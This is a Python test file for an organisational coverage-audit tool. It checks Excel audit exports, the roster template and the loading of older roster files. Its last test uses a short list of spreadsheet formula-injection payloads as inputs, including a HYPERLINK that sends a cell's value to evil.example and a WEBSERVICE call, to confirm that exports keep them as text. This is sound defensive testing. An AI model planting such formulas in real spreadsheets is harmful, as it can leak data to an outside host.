"""Workbooks people open: the audit export and the blank roster template, read back with
openpyxl (title block, widths, frozen panes, filters, number formats, bands, validations);
and rosters from older files whose numbers are floats still load."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from app.audit_export import HEADER_ROW, RATE_AMBER, RATE_GREEN
from app.cli import cli
from graph.domain import Label, Role
from graph.queries.audits import AUDITS
from graph.repo import nodes as repo
from graph.store import GraphStore
from loaders.pii import IdProtector
from loaders.pipeline import load_rosters
from loaders.sheets import display_width
from loaders.templates import TEMPLATES
from loaders.workbook import EXAMPLE_MARK, write_template_workbook
from tests.auth import SECRET, token

runner = CliRunner()
STREET = "371327001"  # the tiny district's street (十字路街道)


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny district loaded by the CLI into a data directory of this module."""
    folder = tmp_path_factory.mktemp("workbooks")
    with pytest.MonkeyPatch.context() as patch:
        _env(patch, folder)
        assert runner.invoke(cli, ["demo", "--scale", "tiny", "--out",
                                   str(folder / "r")]).exit_code == 0
        result = runner.invoke(cli, ["load", str(folder / "r")])
        assert result.exit_code == 0, result.output
    return folder


def _env(patch: pytest.MonkeyPatch, folder: Path) -> None:
    patch.setenv("ORGCOVER_DATA_DIR", str(folder / "data"))
    patch.setenv("ORGCOVER_PII_SECRET", "cli-pii-secret-0123456789-abcdefghij")
    patch.setenv("ORGCOVER_AUTH_SECRET", SECRET)
    patch.delenv("ORGCOVER_GRAPH_URI", raising=False)


@pytest.fixture
def env(loaded: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    _env(monkeypatch, loaded)
    return loaded


def _audit(*args: str) -> None:
    result = runner.invoke(cli, ["audit", *args])
    assert result.exit_code == 0, result.output


def _rows(sheet: Any) -> list[tuple[Any, ...]]:
    return list(sheet.iter_rows(min_row=HEADER_ROW + 1, values_only=True))


def _check_layout(sheet: Any, header: list[str], *, rate_column: str | None) -> None:
    """Title block above a bold, frozen, filtered header; widths fit every cell below."""
    assert [c.value for c in sheet[HEADER_ROW]] == header
    assert all(c.font.b for c in sheet[HEADER_ROW])
    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
    last = sheet.cell(row=HEADER_ROW, column=len(header)).column_letter
    assert sheet.auto_filter.ref == f"A{HEADER_ROW}:{last}{max(sheet.max_row, HEADER_ROW + 1)}"
    for row in sheet.iter_rows(min_row=HEADER_ROW):
        for cell in row:
            if isinstance(cell.value, str):  # wrapped text may be longer than 60
                width = sheet.column_dimensions[cell.column_letter].width
                assert width >= min(display_width(cell.value), 60), (sheet.title, cell.value)
    if rate_column is not None:
        cells = [sheet[f"{rate_column}{r}"] for r in range(HEADER_ROW + 1, sheet.max_row + 1)]
        assert cells
        assert all(c.number_format == "0.0%" for c in cells)
        rules = [(str(area.sqref), rule.formula[0])
                 for area in sheet.conditional_formatting for rule in area.rules]
        area = f"{rate_column}{HEADER_ROW + 1}:{rate_column}{sheet.max_row}"
        first = f"{rate_column}{HEADER_ROW + 1}"
        assert rules == [
            (area, f"AND(ISNUMBER({first}),{first}>={RATE_GREEN})"),
            (area, f"AND(ISNUMBER({first}),{first}>={RATE_AMBER},{first}<{RATE_GREEN})"),
            (area, f"AND(ISNUMBER({first}),{first}<{RATE_AMBER})")]


def test_audit_workbook_is_report_grade(env: Path) -> None:
    out = env / "audit.xlsx"
    before = dt.datetime.now().astimezone().replace(second=0, microsecond=0)
    _audit("--format", "xlsx", "--output", str(out))
    book = load_workbook(out)
    # not grouped: the summary and one complete gap list per metric, no group sheets
    assert book.sheetnames == ["汇总", *(a.zh for a in AUDITS.values())]
    summary = book["汇总"]
    assert summary["A1"].value == "覆盖率审计汇总"
    assert summary["A1"].font.b
    assert summary["A2"].value == "管辖范围：全部    统计范围：全部"
    as_of, generated = summary["A3"].value.split("    ")
    assert as_of.startswith("数据截至：20")
    assert generated.startswith("生成：运维 ")
    when = dt.datetime.strptime(generated.rsplit("，", 1)[1], "%Y-%m-%d %H:%M")
    assert when >= before.replace(tzinfo=None)
    assert "绿 ≥ 90%" in summary["A4"].value
    _check_layout(summary, ["指标编号", "指标", "应覆盖", "已覆盖", "缺口", "覆盖率"],
                  rate_column="F")
    figures = {row[0]: row for row in _rows(summary)}
    assert list(figures) == list(AUDITS)
    gaps_sheet = book[AUDITS["compound-property"].zh]
    _check_layout(gaps_sheet, ["序号", "编码", "名称", "社区", "街道", "原因"], rate_column=None)
    gaps = _rows(gaps_sheet)
    _, _, eligible, covered, gap_count, rate = figures["compound-property"]
    assert len(gaps) == gap_count == eligible - covered > 0  # the complete list
    assert rate == pytest.approx(covered / eligible)
    assert [g[0] for g in gaps] == list(range(1, len(gaps) + 1))
    assert all(g[3] and g[4] == "十字路街道" and g[5] for g in gaps)  # community, street, why
    assert gaps_sheet["A1"].value.startswith("专业化物业覆盖率：缺口清单（")


def test_grouped_workbook_for_a_street_token(env: Path) -> None:
    out = env / "street.xlsx"
    auditor = token("auditor", STREET, sub="li.si")
    _audit("--format", "xlsx", "--output", str(out), "--group-by", "community",
           "--metric", "compound-party-org", "--token", auditor)
    book = load_workbook(out)
    assert book.sheetnames == ["汇总", "小区党组织覆盖率", "小区党组织覆盖率-分组"]
    summary = book["汇总"]
    assert summary["A2"].value == ("管辖范围：十字路街道（371327001）    统计范围：十字路街道"
                                   "（371327001）    按社区分组")
    assert "生成：li.si name（li.si）" in summary["A3"].value
    groups = book["小区党组织覆盖率-分组"]
    _check_layout(groups, ["编码", "社区名称", "应覆盖", "已覆盖", "缺口", "覆盖率"],
                  rate_column="F")
    rows = _rows(groups)
    assert rows
    assert all(r[0].startswith(STREET) for r in rows)
    assert sum(r[2] for r in rows) == _rows(summary)[0][2]


def test_one_workbook_per_street(env: Path) -> None:
    folder = env / "per-street"
    result = runner.invoke(cli, ["audit", "--per-street", str(folder), "--metric",
                                 "building-chief"])
    assert result.exit_code == 0, result.output
    [path] = sorted(folder.iterdir())
    assert path.name == f"{STREET}-十字路街道.xlsx"
    assert result.output.strip() == str(path)
    book = load_workbook(path)
    assert book.sheetnames == ["汇总", "楼长配备", "楼长配备-分组"]  # by community
    assert "统计范围：十字路街道（371327001）    按社区分组" in book["汇总"]["A2"].value
    for args in (["--output", str(env / "x.xlsx")], ["--format", "csv"],
                 ["--scope", "371327001001"], ["--trend"]):
        failed = runner.invoke(cli, ["audit", "--per-street", str(folder), *args])
        assert failed.exit_code == 2, args
        assert failed.output.startswith("orgcover: error:"), failed.output


# -- the blank roster template --------------------------------------------------------------

TEXT_COLUMNS = {("regions", "code"), ("regions", "parent_code"), ("organizations", "code"),
                ("people", "id_number"), ("people", "phone"), ("people", "code"),
                ("posts", "person_code"), ("relations", "from_code"),
                ("party_orgs", "covers")}


def test_template_workbook_guides_whoever_fills_it(tmp_path: Path) -> None:
    book = load_workbook(write_template_workbook(tmp_path / "名册模板.xlsx"))
    assert book.sheetnames == [t.zh for t in TEMPLATES]
    seen_text: set[tuple[str, str]] = set()
    for template in TEMPLATES:
        sheet = book[template.zh]
        assert sheet.freeze_panes == "A3"
        validations = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
        for index, column in enumerate(template.columns, start=1):
            head = sheet.cell(row=1, column=index)
            letter = head.column_letter
            assert head.value == column.zh
            assert head.comment is not None
            assert head.comment.text.startswith("必填" if column.required else "选填")
            example = sheet.cell(row=3, column=index).value
            assert example is None or example.startswith(EXAMPLE_MARK)
            width = sheet.column_dimensions[letter].width
            assert width >= display_width(column.zh) + 2
            assert example is None or width >= display_width(example)
            fmt = sheet.column_dimensions[letter].number_format
            if column.key.endswith("code") or column.key in ("id_number", "phone", "covers"):
                assert fmt == "@", (template.key, column.key)
                seen_text.add((template.key, column.key))
            else:
                assert fmt != "@", (template.key, column.key)
            rule = validations.get(f"{letter}4:{letter}1048576")
            if "可选：" in head.comment.text:
                assert rule is not None, (template.key, column.key)
                offered = head.comment.text.split("可选：")[1].split("\n")[0].split("、")
                assert rule.type == "list"
                assert rule.formula1 == '"' + ",".join(offered) + '"'
                assert len(rule.formula1) <= 255  # Excel's limit for an inline list
            else:
                assert rule is None, (template.key, column.key)
    assert seen_text >= TEXT_COLUMNS
    roles = book["任职"].data_validations.dataValidation[0].formula1
    assert roles == '"' + ",".join(r.zh for r in Role) + '"'
    assert '"是,否"' in [v.formula1 for v in book["小区"].data_validations.dataValidation]


async def test_template_with_its_example_row_loads_only_what_was_filled_in(
        store: GraphStore, tmp_path: Path) -> None:
    path = write_template_workbook(tmp_path / "名册模板.xlsx")
    book = load_workbook(path)
    book["行政区划"].append(["371327", "莒南县", "区县", None, None])
    book["行政区划"].append(["371327001", "十字路街道", "街道", "371327", None])
    book.save(path)
    report = await load_rosters(store, [path], protector=IdProtector(None))
    assert report.counts["regions"].created == 2  # the example row is skipped
    assert report.counts["compounds"].rows == 0


async def test_numbers_typed_as_numbers_in_older_files_still_load(store: GraphStore,
                                                                 tmp_path: Path) -> None:
    """Before the template formatted codes as text, Excel stored typed codes, counts and
    phone numbers as numbers (floats): whole ones are read as the digits typed."""
    book = Workbook()
    regions = book.active
    regions.title = "行政区划"
    regions.append(["编码", "名称", "层级", "上级编码", "常住人口"])
    regions.append([371327.0, "莒南县", "区县", None, 520000.0])
    regions.append([371327001.0, "十字路街道", "街道", 371327.0, 52000.0])
    regions.append([371327001001.0, "泰和社区", "社区", 371327001.0, None])
    grids = book.create_sheet("网格")
    grids.append(["网格编码", "网格名称", "所属社区编码"])
    grids.append([3713270010011.0, "第一网格", 371327001001.0])
    people = book.create_sheet("人员")
    people.append(["人员编号", "姓名", "手机号"])
    people.append([1001.0, "张三", 13812345678.0])
    path = tmp_path / "旧名册.xlsx"
    book.save(path)
    report = await load_rosters(store, [path], protector=IdProtector(None))
    assert report.counts["regions"].created == 3
    assert report.counts["grids"].created == 1
    assert report.counts["people"].created == 1
    found = await repo.nodes_by_code(store, label=Label.REGION,
                                     codes=["371327", "371327001", "371327001001"], scope=None)
    assert found["371327001"].get("population") == 52000
    grid = await repo.nodes_by_code(store, label=Label.GRID, codes=["3713270010011"],
                                    scope=None)
    assert set(grid) == {"3713270010011"}
    from app.graphql import build_schema
    from resolvers.access import OPERATOR
    from resolvers.context import Context

    answer = await build_schema().execute('{ person(code: "1001") { name phone } }',
                                          context_value=Context(store, caller=OPERATOR))
    assert answer.errors is None
    assert answer.data == {"person": {"name": "张三", "phone": "13812345678"}}


FORMULAS = ('=HYPERLINK("http://evil.example/?x="&B7,"查看")', "+1+1", "-2+3", "@SUM(A1)",
            "=WEBSERVICE(\"http://evil.example\")")


def test_text_that_looks_like_a_formula_stays_text_in_every_export(tmp_path: Path) -> None:
    """A roster name is anybody's text: in an export it must not become a live formula
    (openpyxl stores a string beginning with `=` as one)."""
    from loaders.report import LoadReport, RosterProblem, write_problems
    from resolvers.workbook import ReportHeading, Sheets

    sheets = Sheets(ReportHeading((None, "全部"), (None, "全部"), "tester",
                                  dt.datetime(2026, 12, 1, 9, 0)), None)
    sheets.add("缺口", "缺口", ["编码", "名称"], [[f"C{i}", text] for i, text in
                                                  enumerate(FORMULAS)])
    sheets.workbook.save(tmp_path / "audit.xlsx")
    report = LoadReport("L1")
    for text in FORMULAS:
        report.problems.append(RosterProblem(file="小区.csv", key="required", row=2,
                                             column="名称", value=text))
    write_problems(report, tmp_path / "problems.xlsx")
    for name in ("audit.xlsx", "problems.xlsx"):
        cells = [c for row in load_workbook(tmp_path / name).active.iter_rows()
                 for c in row if isinstance(c.value, str) and c.value in FORMULAS]
        assert sorted(c.value for c in cells) == sorted(FORMULAS), name
        assert {c.data_type for c in cells} == {"s"}, name
